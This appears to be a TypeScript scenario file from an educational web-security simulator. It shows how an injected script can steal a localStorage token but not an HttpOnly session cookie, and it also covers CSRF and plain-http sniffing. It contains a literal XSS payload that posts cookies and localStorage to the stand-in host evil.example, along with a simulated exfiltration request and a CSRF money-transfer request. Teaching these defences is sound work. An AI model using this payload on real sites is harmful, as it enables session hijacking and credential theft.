import { byteLength } from '../http';
import { siteOf } from '../cookies';
import { describeStolen, noteAttacker } from '../attacker';
import { jwtAuth } from '../jwt-auth';
import type { Lane } from '../lane';
import { browserHeaders, roundTrip, sessionIdIn } from '../round-trip';
import { sessionAuth } from '../session-store';
import { browserToken, logIn, sendRequest } from '../steps';
import type { ScenarioDefinition } from './definition';

const xssPayload =
  "<script>fetch('https://evil.example/c',{method:'POST',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})</script>";

/** An injected script runs in Ada's page and sends home whatever it can read. */
async function xss(lane: Lane) {
  lane.send({
    from: 'attacker',
    to: 'browser',
    label: 'XSS: injected <script> runs in the page',
    kind: 'attack',
    narration:
      'A comment field was not escaped: the attacker\u2019s script now runs inside app.example.com, with the page\u2019s powers.',
    wire: xssPayload,
  });
  const cookies = lane.jar.visibleToScript();
  const storage = Object.fromEntries(lane.localStorage);
  const loot = JSON.stringify({ c: cookies, l: storage });
  const stolenToken = storage.access_token;
  lane.send({
    from: 'browser',
    to: 'attacker',
    label: stolenToken
      ? `exfiltrate localStorage token (${byteLength(stolenToken)} B)`
      : 'exfiltrate: document.cookie = "" (HttpOnly hides sid)',
    kind: 'attack',
    narration: stolenToken
      ? 'The script reads localStorage.access_token and posts it to evil.example: the attacker now holds the token itself.'
      : 'The script reads document.cookie and gets an empty string: the session cookie is HttpOnly, so no script can read it. localStorage is empty too.',
    wire: `POST /c HTTP/1.1\r\nHost: evil.example\r\nContent-Length: ${byteLength(loot)}\r\n\r\n${loot}`,
    credentials: stolenToken ? [{ kind: 'access-token', value: stolenToken }] : undefined,
  });
  if (stolenToken) lane.stolen = { kind: 'access-token', value: stolenToken };
  lane.events[lane.events.length - 1]!.attacker = stolenToken
    ? await describeStolen(lane)
    : 'The attacker has nothing to take away: the session ID never reached a script.';
}

/** Ada logs in and works for a while; then the injected script runs in her page. */
async function workUntilTheScriptRuns(lane: Lane) {
  await logIn(lane);
  lane.advance(1000);
  await sendRequest(lane);
  lane.advance(1000);
  await xss(lane);
}

/** A page on evil.example makes Ada's browser send a request: what rides along by itself? */
async function crossSiteRequest(lane: Lane) {
  const request = {
    method: 'POST',
    host: 'app.example.com',
    path: '/api/transfer',
    body: '{"to":"mallory","amount":500}',
  };
  const { headers, decisions } = browserHeaders(lane, request, {
    site: siteOf('evil.example'),
    topLevel: false,
  });
  const sid = sessionIdIn(headers);
  const why = decisions.map((d) => d.reason).join('; ');
  await roundTrip(lane, {
    client: 'evil-page',
    request: { ...request, headers },
    label: 'CSRF: POST /api/transfer from evil.example',
    attackerDriven: true,
    narration:
      lane.flow === 'session'
        ? `Ada visits evil.example, whose page posts to app.example.com. The browser decides which cookies go: ${why || 'none'}.`
        : 'Ada visits evil.example, whose page posts to app.example.com. A token in localStorage is never attached by the browser: only the app\u2019s own code adds the Authorization header.',
    presented: sid,
    authenticate: (server) =>
      lane.flow === 'session' ? sessionAuth(lane, server, sid) : jwtAuth(lane, server, undefined),
  });
}

export const stolenCredentialScenario: ScenarioDefinition = {
  id: 'stolen-credential',
  title: 'A stolen credential: HttpOnly cookie vs localStorage under XSS',
  description:
    'The same injected script runs against both apps. The HttpOnly session cookie cannot be read by it; the token in localStorage is posted to the attacker, who replays it from elsewhere until it expires. The cookie flags (HttpOnly, Secure, SameSite) each stop one attack.',
  async session(lane) {
    await workUntilTheScriptRuns(lane);
    await sendRequest(lane, {
      client: 'attacker',
      narration: 'The attacker, from its own machine, has no session ID to send.',
    });
    lane.advance(1000);
    // HttpOnly stops theft, not use: the script can still call the API from inside the open tab.
    await sendRequest(lane, {
      attackerDriven: true,
      narration:
        'But the script can still act from inside Ada\u2019s open tab: its fetch to the same site carries the cookie. HttpOnly stops theft, not riding along.',
    });
    lane.advance(1000);
    await crossSiteRequest(lane);
    lane.advance(1000);
    const plain = { method: 'GET', host: 'app.example.com', path: '/api/profile', scheme: 'http' as const };
    const { headers, decisions } = browserHeaders(lane, plain);
    await roundTrip(lane, {
      client: 'browser',
      request: { ...plain, headers },
      label: 'GET http:// (café Wi-Fi, no TLS)',
      narration: `A link opens the site over plain http on a café network. ${decisions.map((d) => d.reason).join('; ')}: a sniffer sees no session ID.`,
      authenticate: (server) => sessionAuth(lane, server, undefined),
    });
    lane.advanceTo(lane.profile.epochMs + lane.profile.ttlSeconds * 1000 + 1000);
    await sendRequest(lane, { client: 'attacker' });
  },
  async jwt(lane) {
    await workUntilTheScriptRuns(lane);
    await sendRequest(lane, {
      client: 'attacker',
      credential: lane.stolen?.value,
      narration: 'The attacker replays the stolen token from its own machine, anywhere in the world.',
    });
    await noteAttacker(lane);
    lane.advance(1000);
    await sendRequest(lane, {
      narration: 'Ada keeps working; nothing tells her or the servers that a copy exists.',
    });
    lane.advance(1000);
    await crossSiteRequest(lane);
    lane.advance(1000);
    await sendRequest(lane, { client: 'attacker', credential: lane.stolen?.value });
    await noteAttacker(lane);
    const token = browserToken(lane);
    if (token)
      lane.advanceTo(
        lane.profile.epochMs + lane.profile.ttlSeconds * 1000 + 1000,
        'The token\u2019s lifetime runs out.',
      );
    await sendRequest(lane, { client: 'attacker', credential: lane.stolen?.value });
    await noteAttacker(lane);
  },
};
